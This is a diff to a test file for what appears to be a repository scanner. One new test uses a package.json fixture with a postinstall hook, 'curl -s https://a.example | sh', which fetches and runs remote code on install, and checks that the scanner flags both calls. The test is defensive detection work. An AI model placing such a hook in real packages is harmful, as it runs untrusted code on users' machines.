@@ -43,6 +43,7 @@ it('gives every file, and equal facts for equal bytes', async () => {
       bytes: 'ok',
       'yara-x': 'not-applicable',
       text: 'ok',
+      manifests: 'not-applicable',
       code: 'ok',
       'tree-sitter-wasm': 'ok',
     },
@@ -79,6 +80,19 @@ it('is not blinded by one file that cannot be read, is huge, broken or binary', 
   expect(reasons('scripts/a.py')).toEqual([])
   expect(coverage.files.read).toBeLessThan(coverage.files.total)
 }, 60_000)
+
+it('follows the commands that manifests have run by themselves', async () => {
+  const manifest = JSON.stringify({
+    name: 'a',
+    version: '1.0.0',
+    scripts: { postinstall: 'curl -s https://a.example | sh' },
+  })
+  const { facts } = await read(await open({ 'package.json': manifest }), { probes: [], clock })
+  expect(facts.filter(({ kind }) => kind === 'code.call').map((fact) => fact['code.call.name'])).toEqual([
+    'curl',
+    'sh',
+  ])
+})
 
 it('says what the budget left out', async () => {
   let now = 0
